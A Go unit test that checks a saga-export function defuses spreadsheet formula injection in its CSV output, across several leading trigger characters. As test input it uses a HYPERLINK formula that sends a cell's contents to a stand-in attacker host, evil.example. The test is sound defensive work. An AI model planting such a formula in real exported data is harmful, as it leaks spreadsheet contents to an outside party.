package sagapages

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/skald-saga/skald/api/client"
)

// Text from a client in a saga is also text in a spreadsheet, whatever it begins with.
func TestACellIsNoFormula(t *testing.T) {
	for _, begins := range []string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"} {
		said := begins + `HYPERLINK("https://evil.example?"&A1;"x")`
		saga := client.Saga{
			BusinessKey: &said, CorrelationID: &said, InitiatedBy: said, DefinitionID: said, Assignee: &said,
			CreatedAt: time.Unix(0, 0), Error: &client.SagaError{Code: said, Message: said},
		}
		out, err := asCSV([]client.Saga{saga})
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(string(out))).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%q: %q, %v", begins, rows, err)
		}
		texts := 0
		for i, cell := range rows[1] {
			if strings.HasPrefix(cell, begins) {
				t.Errorf("%s is %q", rows[0][i], cell)
			}
			if strings.Contains(cell, "HYPERLINK") {
				texts++
			}
		}
		if texts != 6 {
			t.Errorf("%q: %d texts of clients in %q", begins, texts, rows[1])
		}
	}
	for _, plain := range []string{"", "order-1", "a=b", "1-2"} {
		if got := harmless(plain); got != plain {
			t.Errorf("%q becomes %q", plain, got)
		}
	}
}
